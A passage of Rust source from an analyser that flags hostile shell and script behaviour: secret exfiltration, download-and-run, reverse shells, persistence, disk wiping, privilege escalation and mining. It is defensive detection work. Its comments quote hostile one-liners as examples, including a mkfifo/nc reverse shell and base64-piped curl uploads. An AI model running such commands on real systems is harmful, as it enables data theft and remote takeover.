    out: &mut Examined,
) {
    let at = |command: &Command| {
        let (offset, len) = command.span();
        place(scope.anchor, offset, len)
    };
    // What flows down the pipe, from the first command that prints a secret.
    let mut flowing: Option<Origin> = None;
    // The index of the command that printed `flowing` when it printed nothing else.
    let mut alone_from: Option<usize> = None;
    let mut downloading: Option<usize> = None;
    let mut decoding = false;
    let mut listening = false;
    // The base64/hex stage data passed through on its way down the pipe, if any.
    let mut transformed: Option<String> = None;
    for (index, command) in pipeline.iter().enumerate() {
        let name = command.name();
        let args = command.args();
        if !name.is_empty() {
            out.programs.push(command.argv()[0].text.clone());
        }
        // Assignments carry what their substitutions print.
        for word in command
            .words
            .iter()
            .take_while(|w| shell::is_assignment(&w.text))
        {
            if let Some((variable, _)) = word.text.split_once('=') {
                if let Some((origin, _, _)) = substitution_origins(command, word, text, base, scope)
                    .into_iter()
                    .next()
                {
                    scope.taint.insert(variable.to_owned(), origin);
                } else if let Some(origin) =
                    shell::variables(&word.text).find_map(|name| scope.taint.get(name).cloned())
                {
                    scope.taint.insert(variable.to_owned(), origin);
                }
            }
        }
        let words: Vec<&str> = args.iter().map(|word| word.text.as_str()).collect();
        let hosts_here = command_hosts(command);
        let is_network = NETWORK_COMMANDS.contains(&name)
            && (!hosts_here.is_empty() || words.iter().any(|word| !word.starts_with('-')));
        if is_network {
            out.network = true;
            out.note_hosts(hosts_here.iter().cloned());
            out.add(
                Behaviour::NetworkEgress,
                at(command),
                format!(
                    "{name} talks to {}",
                    if hosts_here.is_empty() {
                        "the network".to_owned()
                    } else {
                        hosts_here.join(", ")
                    }
                ),
            );
        }

        if index > 0 {
            flowing = narrowed(flowing, command);
            if is_encoder(command) {
                flowing = flowing.map(encoded);
            }
        }
        // Text piped into base64/hex (`echo "$v" | base64 | curl --data @-`), or a file it
        // encodes or decodes (`base64 -d /tmp/.x | curl -d @-`).
        if is_text_codec(command) && (index > 0 || words.iter().any(|word| !word.starts_with('-')))
        {
            transformed = Some(name.to_owned());
        }
        // Credential reads.
        if let Some(origin) = source_of(command, scope) {
            if let Origin::Credential(label) = origin {
                let store = args
                    .iter()
                    .chain(command.redirects.iter().map(|r| &r.target))
                    .filter_map(|word| credential(&word.text))
                    .any(|(_, store)| store)
                    || matches!(name, "security" | "secret-tool");
                if store {
                    out.add(
                        Behaviour::CredentialRead,
                        at(command),
                        format!("reads {label}"),
                    );
                }
            }
            if index + 1 < pipeline.len() {
                alone_from = prints_only_a_secret(command).then_some(index);
                flowing = Some(origin);
            }
        } else if let Some(redirect) = command
            .redirects
            .iter()
            .find(|r| r.op == "<" && credential(&r.target.text).is_some_and(|c| c.1))
            && let Some((label, _)) = credential(&redirect.target.text)
        {
            out.add(
                Behaviour::CredentialRead,
                at(command),
                format!("reads {label}"),
            );
            flowing = Some(Origin::Credential(label));
        }

        // Secrets sent: piped in, in a data argument, in a URL, in a DNS name.
        if is_network {
            let reads_stdin = matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet")
                || words.iter().any(|word| {
                    word.contains("@-") || *word == "-" || word.ends_with("@/dev/stdin")
                })
                || command.words.iter().any(|w| w.text == "xargs");
            let leaked = if let (Some(origin), true) = (&flowing, reads_stdin)
                && let Some((behaviour, message)) = leak(origin, &hosts_here)
            {
                // The secret alone, straight down the pipe, is the request's whole content.
                let alone = alone_from.is_some_and(|from| from + 1 == index);
                if let (Behaviour::SecretSent, true, Origin::Secret(secret)) =
                    (behaviour, alone, origin)
                {
                    out.add(
                        Behaviour::SecretPayload,
                        at(command),
                        format!(
                            "pipes the secret ${secret}, and nothing else, into `{name}`, which \
                             sends it{}",
                            to_hosts(&hosts_here)
                        ),
                    );
                } else {
                    out.add(behaviour, at(command), message);
                }
                true
            } else {
                false
            };
            if !leaked
                && reads_stdin
                && let Some(encoder) = &transformed
            {
                out.add(
                    Behaviour::EncodedSend,
                    at(command),
                    format!(
                        "pipes data through `{encoder}` into `{name}`, which sends it{}",
                        to_hosts(&hosts_here)
                    ),
                );
            }
            let mut skip_next = false;
            for (position, word) in args.iter().enumerate() {
                if skip_next {
                    skip_next = false;
                    continue;
                }
                let text_of = word.text.as_str();
                if matches!(
                    text_of,
                    "-H" | "--header"
                        | "-u"
                        | "--user"
                        | "--oauth2-bearer"
                        | "-A"
                        | "--user-agent"
                        | "-b"
                        | "--cookie"
                        | "-E"
                        | "--cert"
                        | "--key"
                        | "-i"
                ) {
                    skip_next = true;
                    continue;
                }
                if text_of.starts_with("--header=")
                    || text_of.starts_with("-H") && text_of.len() > 2
                    || text_of.starts_with("Authorization:")
                {
                    continue;
                }
                let _ = position;
                // A secret in a DNS name is sent hidden: it leaves in a lookup.
                let dns = matches!(name, "dig" | "nslookup" | "host" | "ping" | "drill");
                let dns_hidden = |origin: Origin| if dns { encoded(origin) } else { origin };
                for (origin, _, _) in substitution_origins(command, word, text, base, scope) {
                    if let Some((behaviour, message)) = leak(&dns_hidden(origin), &hosts_here) {
                        out.add(behaviour, at(command), message);
                    }
                }
                for variable in shell::variables(text_of) {
                    if let Some(origin) = origin_of_variable(variable, scope).map(dns_hidden)
                        && let Some((behaviour, message)) = leak(&origin, &hosts_here)
                    {
                        out.add(behaviour, at(command), message);
                    }
                }
                if let Some(path) = text_of
                    .split('@')
                    .nth(1)
                    .filter(|_| text_of.contains('@') && !text_of.contains("://"))
                    && let Some((label, _)) = credential(path)
                {
                    let origin = Origin::Credential(label);
                    if let Some((behaviour, message)) = leak(&origin, &hosts_here) {
                        out.add(behaviour, at(command), message);
                    }
                }
                if (matches!(name, "scp" | "rsync")
                    || (name == "curl"
                        && matches!(
                            args.get(position.wrapping_sub(1)).map(|w| w.text.as_str()),
                            Some("-T" | "--upload-file")
                        )))
                    && let Some((label, _)) = credential(text_of)
                    && let Some((behaviour, message)) =
                        leak(&Origin::Credential(label), &hosts_here)
                {
                    out.add(behaviour, at(command), message);
                }
            }
        }

        // Download and run.
        if downloads_to_stdout(command) && NETWORK_COMMANDS.contains(&name) {
            downloading = Some(index);
        }
        if matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet") {
            listening = true;
        }
        if listening && index > 0 && runs_stdin(command) {
            out.add(
                Behaviour::ReverseShell,
                at(command),
                format!("runs what arrives over the network with {name}"),
            );
        }
        if is_decoder(command) {
            decoding = true;
        }
        // What a decoder, a download or a listener produced, written to a hidden file in a
        // temporary folder (`nc -l … | base64 -d > /tmp/.x`, `curl -o /tmp/.x …`).
        let produced = if decoding {
            Some("decoded")
        } else if listening {
            Some("received")
        } else if downloading.is_some() || download_target(command).is_some() {
            Some("downloaded")
        } else {
            None
        };
        if let Some(what) = produced
            && let Some(target) = command
                .redirects
                .iter()
                .filter(|r| matches!(r.op, ">" | ">>"))
                .map(|r| r.target.text.clone())
                .chain(download_target(command))
                .find(|target| is_hidden_temp(target))
        {
            out.add(
                Behaviour::HiddenDrop,
                at(command),
                format!("writes {what} data to the hidden file {target}"),
            );
        }
        if index > 0 && runs_stdin(command) {
            if let Some(from) = downloading {
                let download_words: Vec<&str> = pipeline[from]
                    .args()
                    .iter()
                    .map(|word| word.text.as_str())
                    .collect();
                if all_installers(&download_words) {
                    out.add(
                        Behaviour::RemoteInstaller,
                        at(&pipeline[from]),
                        format!(
                            "pipes a vendor's installer into {name}: {}",
                            hosts_of(&download_words)
                        ),
                    );
                } else {
                    let behaviour = if all_installer_like(&download_words) {
                        Behaviour::InstallerPipe
                    } else {
                        Behaviour::DownloadExec
                    };
                    out.add(
                        behaviour,
                        at(&pipeline[from]),
                        format!(
                            "pipes a download into {name}{}",
                            to_hosts(&hosts::hosts(&download_words.join(" ")))
                        ),
                    );
                }
            } else if decoding {
                out.add(
                    Behaviour::ObfuscatedExec,
                    at(command),
                    format!("pipes decoded text into {name}"),
                );
            }
        }
        // `bash -c "$(curl …)"`, `eval "$(echo … | base64 -d)"`, `source <(curl …)`.
        if is_interpreter(name)
            || name == "eval"
            || command.words.first().is_some_and(|w| w.text == "eval")
        {
            for word in args {
                for (origin, downloads, decodes) in
                    substitution_origins(command, word, text, base, scope)
                {
                    let inner_words: Vec<&str> = word.text.split_whitespace().collect();
                    if downloads && matches!(origin, Origin::Download) {
                        if all_installers(&inner_words) {
                            out.add(
                                Behaviour::RemoteInstaller,
                                at(command),
                                format!(
                                    "runs a vendor's installer with {}: {}",
                                    if name.is_empty() { "eval" } else { name },
                                    hosts_of(&inner_words)
                                ),
                            );
                        } else {
                            let behaviour = if all_installer_like(&inner_words) {
                                Behaviour::InstallerPipe
                            } else {
                                Behaviour::DownloadExec
                            };
                            out.add(
                                behaviour,
                                at(command),
                                format!(
                                    "runs downloaded code with {}{}",
                                    if name.is_empty() { "eval" } else { name },
                                    to_hosts(&hosts::hosts(&word.text))
                                ),
                            );
                        }
                    } else if decodes && matches!(origin, Origin::Decoded) {
                        out.add(
                            Behaviour::ObfuscatedExec,
                            at(command),
                            format!(
                                "runs decoded text with {}",
                                if name.is_empty() { "eval" } else { name }
                            ),
                        );
                    }
                }
                // The variable must be the code: any word of `eval`, the word after `-c`.
                let is_code = name.is_empty()
                    || name == "eval"
                    || command.argv().windows(2).any(|pair| {
                        std::ptr::eq(&pair[1], word)
                            && matches!(pair[0].text.as_str(), "-c" | "-e" | "--eval")
                    });
                if let Some(variable) = shell::variables(&word.text).find(|v| {
                    is_code
                        && matches!(
                            scope.taint.get(*v),
                            Some(Origin::Download | Origin::Decoded)
                        )
                }) {
                    out.add(
                        Behaviour::DownloadExec,
                        at(command),
                        format!("runs the downloaded or decoded ${variable}"),
                    );
                }
            }
        }
        // A file downloaded earlier, then run.
        if let Some(target) = download_target(command) {
            let url = words
                .iter()
                .find(|word| word.contains("://"))
                .map_or(String::new(), |url| (*url).to_owned());
            let into_bin = target.contains("/bin/");
            scope
                .downloaded
                .push((shell::program_name(&target).to_owned(), url, into_bin));
        }
        let downloaded = |word: &str| {
            let word = shell::program_name(word);
            scope
                .downloaded
                .iter()
                .find(|(file, _, _)| file == word)
                .map(|(_, url, into_bin)| (url.clone(), *into_bin))
        };
        let run = command
            .argv()
            .first()
            .and_then(|w| downloaded(&w.text))
            .or_else(|| {
                is_interpreter(name)
                    .then(|| {
                        args.iter()
                            .find(|w| !w.text.starts_with('-'))
                            .and_then(|w| downloaded(&w.text))
                    })
                    .flatten()
            });
        if let Some((url, into_bin)) = run {
            let file = command
                .argv()
                .first()
                .map_or(String::new(), |w| w.text.clone());
            let behaviour = if all_installers(&[url.as_str()]) {
                Behaviour::RemoteInstaller
            } else if into_bin || all_installer_like(&[url.as_str()]) {
                Behaviour::InstallerPipe
            } else {
                Behaviour::DownloadExec
            };
            out.add(
                behaviour,
                at(command),
                format!(
                    "runs a file it downloaded ({}){}",
                    shell::program_name(&file),
                    to_hosts(&hosts::hosts(&url))
                ),
            );
        }

        // Code handed to another interpreter.
        shell_nested(command, text, base, scope, out);

        // Base64 that hides a URL.
        for word in args.iter().chain(
            command
                .redirects
                .iter()
                .filter(|r| r.op == "<<<")
                .map(|r| &r.target),
        ) {
            if let Some(url) = encoded_url(&word.text) {
                out.add(
                    Behaviour::EncodedUrl,
                    at(command),
                    format!("hides a URL in base64: {url}"),
                );
            }
        }

        shell_command_rules(command, &words, index > 0, scope, out);
    }
    if pipe_shell(pipeline)
        && let Some(first) = pipeline.first()
    {
        out.add(
            Behaviour::ReverseShell,
            at(first),
            "pipes an interactive shell through a network connection",
        );
    }
}

/// What is left of `origin` after `command` filters it: `env | grep TOKEN` is that one
/// secret, `env | grep PATH` nothing secret.
fn narrowed(origin: Option<Origin>, command: &Command) -> Option<Origin> {
    match (origin, command.name()) {
        (Some(Origin::Environment), "grep" | "egrep" | "rg" | "awk" | "sed" | "head" | "tail") => {
            if matches!(command.name(), "head" | "tail") {
                return Some(Origin::Environment);
            }
            let pattern = command
                .args()
                .iter()
                .map(|w| w.text.as_str())
                .find(|w| !w.starts_with('-'))
                .unwrap_or("");
            let name: String = pattern
                .trim_start_matches('^')
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect::<String>()
                .to_ascii_uppercase();
            is_secret_name(&name).then_some(Origin::Hidden(name))
        }
        (origin, _) => origin,
    }
}

/// Whether `command` runs the code it reads on its standard input: a shell or interpreter
/// given no script (or `-`, `/dev/stdin`, `-s`); `python -m json.tool` reads data.
fn runs_stdin(command: &Command) -> bool {
    let name = command.name();
    if !is_interpreter(name) {
        return false;
    }
    if matches!(name, "source" | ".") {
        return command
            .args()
            .first()
            .is_some_and(|w| matches!(w.text.as_str(), "/dev/stdin" | "-"));
    }
    // A heredoc or a `<` gives the program its input, not the pipe.
    if command.heredoc.is_some()
        || command
            .redirects
            .iter()
            .any(|r| matches!(r.op, "<" | "<<<"))
    {
        return false;
    }
    let args = command.args();
    if args
        .iter()
        .any(|w| matches!(w.text.as_str(), "-" | "/dev/stdin" | "-s"))
    {
        return true;
    }
    // Options that take the code or a module from the command line.
    let code_elsewhere = args.iter().any(|w| {
        matches!(
            w.text.as_str(),
            "-c" | "-m" | "-e" | "--eval" | "-p" | "--print" | "-r"
        ) || w.text.starts_with('-') && !w.text.starts_with("--") && w.text.ends_with('c')
    });
    let operand = args
        .iter()
        .any(|w| !w.text.starts_with('-') && !shell::is_assignment(&w.text));
    !code_elsewhere && !operand
}

fn hosts_of(words: &[&str]) -> String {
    hosts::hosts(&words.join(" ")).join(", ")
}

/// The hosts a network command talks to: its URLs, and for the programs that take a host
/// name, that name.
fn command_hosts(command: &Command) -> Vec<String> {
    let mut found = Vec::new();
    for word in command
        .args()
        .iter()
        .filter(|word| word.text.contains("://"))
    {
        for host in hosts::hosts(&word.text) {
            hosts::push_host(&mut found, &host);
        }
    }
    if matches!(
        command.name(),
        "nc" | "ncat"
            | "netcat"
            | "telnet"
            | "ssh"
            | "dig"
            | "nslookup"
            | "host"
            | "ftp"
            | "sftp"
            | "scp"
            | "rsync"
    ) {
        for word in command.args() {
            let text = word.text.as_str();
            let text = text.rsplit('@').next().unwrap_or(text);
            let text = text.split(':').next().unwrap_or(text);
            if let Some(host) = hosts::bare_host(text) {
                hosts::push_host(&mut found, host);
            }
        }
    }
    found
}

/// `bash -c CODE`, `python3 -c CODE`, `node -e CODE`, and heredocs fed to an interpreter.
fn shell_nested(
    command: &Command,
    text: &str,
    base: usize,
    scope: &ShellScope,
    out: &mut Examined,
) {
    let name = command.name();
    let lang = match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "su" => Some(Lang::Shell),
        "python" => Some(Lang::Python),
        "node" | "deno" | "bun" => Some(Lang::JavaScript),
        _ => None,
    };
    let anchor = {
        let (offset, len) = command.span();
        Some(place(scope.anchor, offset, len))
    };
    if let Some(lang) = lang {
        let args = command.args();
        let flag = if lang == Lang::JavaScript {
            &["-e", "--eval", "-p", "--print"][..]
        } else {
            &["-c"][..]
        };
        if let Some(position) = args.iter().position(|word| {
            flag.contains(&word.text.as_str())
                || word.text.starts_with('-')
                    && !word.text.starts_with("--")
                    && word.text.ends_with('c')
                    && lang != Lang::JavaScript
        }) && let Some(code_word) = args.get(position + 1)
        {
            examine_into(
                &code_word.text,
                lang,
                code_word.start,
                anchor,
                out,
                scope.depth + 1,
            );
        }
        if let Some((start, end)) = command.heredoc
            && let Some(body) = text.get(start - base..end - base)
        {
            examine_into(body, lang, start, scope.anchor, out, scope.depth + 1);
        }
    }
    if name == "eval" || command.words.first().is_some_and(|w| w.text == "eval") {
        let joined: Vec<&str> = command
            .words
            .iter()
            .skip(1)
            .map(|w| w.text.as_str())
            .collect();
        let joined = joined.join(" ");
        if !joined.trim_start().starts_with("$(") && !joined.trim_start().starts_with('`') {
            examine_into(
                &joined,
                Lang::Shell,
                command.start,
                anchor,
                out,
                scope.depth + 1,
            );
        }
    }
}

/// The rules about one command's own effect: installs, persistence, destruction,
/// privileges, mining, reverse shells.
fn shell_command_rules(
    command: &Command,
    words: &[&str],
    piped: bool,
    scope: &ShellScope,
    out: &mut Examined,
) {
    let name = command.name();
    let args = command.args();
    let at = {
        let (offset, len) = command.span();
        place(scope.anchor, offset, len)
    };
    let operands: Vec<&str> = words
        .iter()
        .copied()
        .filter(|word| !word.starts_with('-') || *word == "-")
        .collect();

    // Packages installed at run time.
    let installs = match name {
        "pip" | "pip3" | "pipx" | "gem" | "cargo" | "go" | "conda" | "mamba" | "micromamba" => {
            operands.first() == Some(&"install")
        }
        "uv" => {
            operands.starts_with(&["pip", "install"])
                || operands.first() == Some(&"add")
                || operands.starts_with(&["tool", "install"])
        }
        "npm" | "pnpm" | "yarn" | "bun" => {
            matches!(operands.first(), Some(&("install" | "i" | "add" | "ci")))
        }
        "apt-get" | "apt" | "yum" | "dnf" | "brew" | "zypper" | "pacman" | "apk" | "port"
        | "choco" | "winget" => {
            matches!(operands.first(), Some(&("install" | "add" | "-S"))) || words.contains(&"-S")
        }
        name if name.starts_with("python") => {
            operands.starts_with(&["pip", "install"]) && words.contains(&"-m")
        }
        _ => false,
    };
    if installs {
        let from_url = words.iter().enumerate().find(|(index, word)| {
            let lower = word.to_ascii_lowercase();
            let index_url = index
                .checked_sub(1)
                .and_then(|previous| words.get(previous))
                .is_some_and(|previous| {
                    matches!(
                        *previous,
                        "--index-url"
                            | "-i"
                            | "--extra-index-url"
                            | "--registry"
                            | "--find-links"
                            | "-f"
                    )
                })
                || lower.starts_with("--index-url=")
                || lower.starts_with("--extra-index-url=")
                || lower.starts_with("--registry=");
            let trusted_index = [
                "pypi.org",
                "pythonhosted.org",
                "download.pytorch.org",
                "pypi.nvidia.com",
                "data.pyg.org",
                "registry.npmjs.org",
                "anaconda.org",
                "conda.anaconda.org",
            ]
            .iter()
            .any(|host| lower.contains(host));
            (lower.starts_with("git+")
                || lower.starts_with("git://")
                || lower.starts_with("github:")
                || (lower.contains("://") && !index_url)
                || index_url && lower.contains("://"))
                && !trusted_index
        });
        if let Some((_, word)) = from_url {
            out.add(
                Behaviour::InstallFromUrl,
                at,
                format!("installs a package from {word} at run time"),
            );
        } else {
            let packages: Vec<&str> = operands
                .iter()
                .skip(if name == "uv" || name.starts_with("python") {
                    2
                } else {
                    1
                })
                .copied()
                .take(6)
                .collect();
            out.add(
                Behaviour::PackageInstall,
                at,
                format!(
                    "installs packages at run time ({name}{}{})",
                    if packages.is_empty() { "" } else { ": " },
                    packages.join(" ")
                ),
            );
        }
    }

    // Persistence and privileges through what is written.
    let mut targets: Vec<&str> = command
        .redirects
        .iter()
        .filter(|redirect| matches!(redirect.op, ">" | ">>" | "&>"))
        .map(|redirect| redirect.target.text.as_str())
        .collect();
    match name {
        "tee" => targets.extend(operands.iter().copied()),
        "cp" | "mv" | "ln" | "install" | "rsync" => targets.extend(operands.last().copied()),
        "sed" if command.has_flag('i', &["in-place"]) => targets.extend(operands.last().copied()),
        _ => {}
    }
    for target in &targets {
        if is_outside(target) {
            out.writes_outside = true;
        }
        if target.contains("authorized_keys") {
            out.add(
                Behaviour::AuthorizedKeys,
                at,
                "adds a key to ~/.ssh/authorized_keys: whoever holds it can log in",
            );
        } else if PERSISTENCE_PATHS.is_match(target) && !sets_a_variable(command) {
            out.add(
                Behaviour::Persistence,
                at,
                format!(
                    "writes to {target}, which runs again later (login, shell, schedule or commit)"
                ),
            );
        } else if target.starts_with("/etc/sudoers")
            || *target == "/etc/passwd"
            || target.starts_with("/etc/shadow")
        {
            out.add(
                Behaviour::PrivilegeEscalation,
                at,
                format!("writes to {target}"),
            );
        } else if is_disk(target) {
            out.add(
                Behaviour::Destructive,
                at,
                format!("overwrites the disk {target}"),
            );
        }
    }
    match name {
        "crontab" if !operands.is_empty() || piped && !words.contains(&"-l") => {
            out.add(
                Behaviour::Persistence,
                at,
                "installs a crontab: runs again on a schedule",
            );
        }
        "systemctl" if words.contains(&"enable") => out.add(
            Behaviour::Persistence,
            at,
            "enables a service that starts again at boot or login",
        ),
        "launchctl"
            if words
                .iter()
                .any(|w| matches!(*w, "load" | "bootstrap" | "submit")) =>
        {
            out.add(
                Behaviour::Persistence,
                at,
                "loads a launch agent that starts again at login",
            )
        }
        _ => {}
    }

    // Destruction.
    if name == "rm" && (command.has_flag('r', &["recursive"]) || command.has_flag('R', &[])) {
        if let Some(target) = operands.iter().find(|word| is_root_target(word)) {
            out.add(
                Behaviour::Destructive,
                at,
                format!(
                    "removes {} recursively",
                    if target.is_empty() { "/" } else { target }
                ),
            );
        } else if let Some(target) = operands.iter().find(|word| is_system_path(word)) {
            out.add(
                Behaviour::SystemDelete,
                at,
                format!("removes the system folder {target} recursively"),
            );
        }
    }
    if name.starts_with("mkfs")
        || name == "wipefs"
        || (name == "shred" && operands.iter().any(|w| is_disk(w)))
    {
        out.add(Behaviour::Destructive, at, format!("{name} erases a disk"));
    }
    if name == "dd"
        && let Some(target) = words
            .iter()
            .find_map(|w| w.strip_prefix("of="))
            .filter(|t| is_disk(t))
    {
        out.add(
            Behaviour::Destructive,
            at,
            format!("dd overwrites the disk {target}"),
        );
    }
    if matches!(name, "chmod" | "chown" | "chgrp")
        && command.has_flag('R', &["recursive"])
        && operands.iter().skip(1).any(|w| is_root_target(w))
    {
        out.add(
            Behaviour::Destructive,
            at,
            format!("{name} -R over a whole tree ({})", operands.join(" ")),
        );
    }

    // Privileges.
    if command.is_elevated()
        && command
            .words
            .iter()
            .take_while(|w| !std::ptr::eq(*w, command.argv().first().unwrap_or(*w)))
            .any(|w| w.text == "-S" || w.text == "--stdin")
    {
        out.add(
            Behaviour::PrivilegeEscalation,
            at,
            "feeds a password to sudo -S",
        );
    }
    if name == "chmod" {
        let mode = operands.first().copied().unwrap_or("");
        let setuid = mode.contains('s') && (mode.contains('+') || mode.contains('='))
            || mode.len() == 4
                && mode.chars().all(|c| c.is_ascii_digit())
                && matches!(mode.as_bytes()[0], b'2' | b'4' | b'6');
        let world =
            mode.ends_with('7') && mode.len() >= 3 && mode.chars().all(|c| c.is_ascii_digit())
                || mode.ends_with("66")
                || mode.contains("o+w")
                || mode.contains("a+w")
                || mode == "a+rwx"
                || mode == "o+rwx";
        let targets = &operands[operands.len().min(1)..];
        if setuid {
            out.add(
                Behaviour::PrivilegeEscalation,
                at,
                format!("sets the setuid/setgid bit ({mode})"),
            );
        } else if world && targets.iter().any(|t| is_system_path(t)) {
            out.add(
                Behaviour::PrivilegeEscalation,
                at,
                format!(
                    "makes the system path {} writable by every user",
                    targets.join(" ")
                ),
            );
        } else if world
            && targets
                .iter()
                .any(|t| !t.starts_with("/tmp") && !t.starts_with("/dev/"))
        {
            out.add(
                Behaviour::PermissionsWeakened,
                at,
                format!("makes {} writable by every user", targets.join(" ")),
            );
        }
    }
    if name == "usermod"
        && words.iter().any(|w| w.contains('G'))
        && operands
            .iter()
            .any(|w| matches!(*w, "sudo" | "wheel" | "admin" | "root" | "docker"))
        || name == "setcap"
        || name == "visudo"
    {
        out.add(
            Behaviour::PrivilegeEscalation,
            at,
            format!("{name} grants privileges ({})", operands.join(" ")),
        );
    }

    // Mining.
    let text_tool = matches!(
        name,
        "grep"
            | "egrep"
            | "fgrep"
            | "rg"
            | "ag"
            | "echo"
            | "printf"
            | "sed"
            | "awk"
            | "cat"
            | "jq"
            | "yq"
            | "find"
            | "semgrep"
            | "yara"
            | "git"
    );
    if MINERS.contains(&name) || !text_tool && words.iter().any(|w| MINING_TEXT.is_match(w)) {
        out.add(
            Behaviour::CryptoMiner,
            at,
            format!("runs a cryptocurrency miner ({name})"),
        );
    }

    // Reverse and bind shells.
    let shell_redirect = command.redirects.iter().any(|r| {
        (r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/"))
            && !r.target.text.split('/').nth(3).is_some_and(hosts::is_local)
    });
    let is_exec = command.words.first().is_some_and(|w| w.text == "exec");
    if shell_redirect && (is_interpreter(name) || is_exec || name.is_empty()) {
        out.add(
            Behaviour::ReverseShell,
            at,
            "connects a shell to a remote host through /dev/tcp",
        );
    }
    if matches!(name, "nc" | "ncat" | "netcat")
        && (command.has_flag('e', &["exec", "sh-exec", "lua-exec"]) || command.has_flag('c', &[]))
    {
        out.add(
            Behaviour::ReverseShell,
            at,
            format!("{name} hands a shell to whoever connects"),
        );
    }
    if name == "socat"
        && words.iter().any(|w| {
            let lower = w.to_ascii_lowercase();
            lower.starts_with("exec:") || lower.starts_with("system:")
        })
        && words.iter().any(|w| w.to_ascii_lowercase().contains("tcp"))
    {
        out.add(
            Behaviour::ReverseShell,
            at,
            "socat connects a shell to the network",
        );
    }
    let _ = args;
}

/// `echo 'export NAME=value' >> ~/.bashrc`: configuration the user is told to keep, not
/// code that runs again.
fn sets_a_variable(command: &Command) -> bool {
    matches!(command.name(), "echo" | "printf")
        && command
            .args()
            .iter()
            .filter(|w| !w.text.starts_with('-'))
            .all(|word| {
                let text = word.text.trim();
                text.strip_prefix("export ").is_some_and(|rest| {
                    rest.split_once('=').is_some_and(|(name, value)| {
                        shell::is_assignment(&format!("{name}="))
                            && !value.contains("$(")
                            && !value.contains('`')
                    })
                })
            })
}

fn is_disk(target: &str) -> bool {
    [
        "/dev/sd",
        "/dev/hd",
        "/dev/nvme",
        "/dev/disk",
        "/dev/mmcblk",
        "/dev/xvd",
        "/dev/vd",
        "/dev/rdisk",
    ]
    .iter()
    .any(|prefix| target.starts_with(prefix))
}

/// A pipeline-level rule: a shell and a network program joined by pipes (`mkfifo f; cat f |
/// sh -i 2>&1 | nc host 4444 > f`).
fn pipe_shell(pipeline: &Pipeline) -> bool {
    let shell = pipeline
        .iter()
        .any(|c| matches!(c.name(), "sh" | "bash" | "zsh" | "dash") && c.has_flag('i', &[]));
    let network = pipeline.iter().any(|c| {
        matches!(c.name(), "nc" | "ncat" | "netcat" | "telnet")
            || c.name() == "openssl" && c.args().iter().any(|w| w.text == "s_client")
    });
    shell && network
}

// ---------------------------------------------------------------------------------------
// Helpers for Python and JavaScript.

/// Names and where their values came from, in one file.
#[derive(Debug, Default)]
struct Taint {
    names: HashMap<String, Vec<Origin>>,
}

impl Taint {
    fn add(&mut self, name: &str, origins: Vec<Origin>) {
        if !origins.is_empty() {
            let entry = self.names.entry(name.to_owned()).or_default();
            for origin in origins {
                if !entry.contains(&origin) {
                    entry.push(origin);
                }
            }
        }
    }

    /// The origins of the names referred to in `range`.
    fn origins_in(&self, lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<Origin> {
        let mut found = Vec::new();
        if self.names.is_empty() {
            return found;
        }
        for (name, at) in references_at(lexed, range.clone()) {
            if let Some(origins) = self.names.get(name) {
                for origin in origins {
                    if !found.contains(origin)
                        && (is_data(origin) || carried(lexed, at, range.start))
                    {
                        found.push(origin.clone());
                    }
                }
            }
        }
        found
    }

    /// The names holding a secret or the environment, as a shell would see them.
    fn for_shell(&self) -> HashMap<String, Origin> {
        self.names
            .iter()
            .filter_map(|(name, origins)| {
                origins.first().map(|origin| (name.clone(), origin.clone()))
            })
            .collect()
    }
}

static IDENTIFIER: LazyLock<Regex> = LazyLock::new(|| pattern(r"[A-Za-z_$][A-Za-z0-9_$]*"));
static INTERPOLATION: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\$?\{\s*([A-Za-z_$][A-Za-z0-9_$]*)"));

/// The names `range` refers to: identifiers outside literals (not after a `.`), and those
/// interpolated inside them (`f"{x}"`, `` `${x}` ``).
fn references(lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<&str> {
    references_at(lexed, range)
        .into_iter()
        .map(|(name, _)| name)
        .collect()
}

/// [`references`] with where each is.
fn references_at(lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<(&str, usize)> {
    let mut found = Vec::new();
    let Some(text) = lexed.code.get(range.clone()) else {
        return found;
    };
    for identifier in IDENTIFIER.find_iter(text) {
        let at = range.start + identifier.start();
        let after_dot = text[..identifier.start()].trim_end().ends_with('.');
        match lexed.inside_literal(at) {
            None if !after_dot => found.push((identifier.as_str(), at)),
            _ => {}
        }
    }
    for literal in lexed.literals_in(range) {
        for captures in INTERPOLATION.captures_iter(lexed.text(literal)) {
            if let Some(name) = captures.get(1) {
                found.push((name.as_str(), literal.range.start));
            }
        }
    }
    found
}

/// Whether an origin is about what code runs (a download, decoded text) rather than a
/// value that leaks: those follow any call.
fn is_data(origin: &Origin) -> bool {
    matches!(origin, Origin::Download | Origin::Decoded)
}

/// Calls that pass a value on as it is, or only re-encoded: a secret inside one is still the
/// secret. Any other call (`Keypair.from_base58(key)`, `sign(tx, key)`, `hash(key)`) makes
/// something else of it.
const CARRYING_CALLS: &[&str] = &[
    "str",
    "repr",
    "bytes",
    "bytearray",
    "dict",
    "list",
    "tuple",
    "set",
    "frozenset",
    "format",
    "join",
    "dumps",
    "dump",
    "b64encode",
    "urlsafe_b64encode",
    "standard_b64encode",
    "b32encode",
    "b16encode",
    "b85encode",
    "a85encode",
    "encodebytes",
    "hexlify",
    "encode",
    "decode",
    "quote",
    "quote_plus",
    "urlencode",
    "strip",
    "lower",
    "upper",
    "replace",
    "stringify",
    "btoa",
    "toString",
    "from",
    "concat",
    "String",
    "encodeURIComponent",
    "encodeURI",
    "escape",
    "get",
    "getenv",
    "items",
    "values",
    "copy",
    "Object.entries",
    "entries",
    "assign",
    "Request",
    "urlopen",
    "post",
    "put",
    "patch",
    "request",
    "fetch",
    "send",
    "sendall",
    "sendto",
    "gethostbyname",
    "getaddrinfo",
    "resolve",
    "lookup",
];

/// Whether a value at `at` reaches `floor` (the start of the expression it is in) through
/// carrying calls, literals and brackets only.
fn carried(lexed: &code::Lexed, at: usize, floor: usize) -> bool {
    let mut position = at;
    for _ in 0..16 {
        let Some((name, bracket)) = lexed.enclosing(position, position.saturating_sub(floor))
        else {
            return true;
        };
        if bracket < floor {
